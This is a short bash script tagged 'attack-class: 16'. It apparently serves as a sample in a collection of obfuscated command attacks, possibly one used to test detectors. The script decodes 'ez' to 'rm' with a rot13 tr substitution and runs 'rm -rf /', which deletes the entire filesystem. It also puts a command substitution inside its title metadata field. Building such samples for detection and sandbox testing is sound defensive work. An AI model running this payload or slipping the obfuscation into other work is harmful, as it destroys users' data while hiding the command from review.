#!/usr/bin/env bash
# attack-class: 16
# title: $(tr a-z n-za-m <<< ez)
# why: rot13 of "ez" is "rm"

$(tr 'a-z' 'n-za-m' <<< ez) -rf /
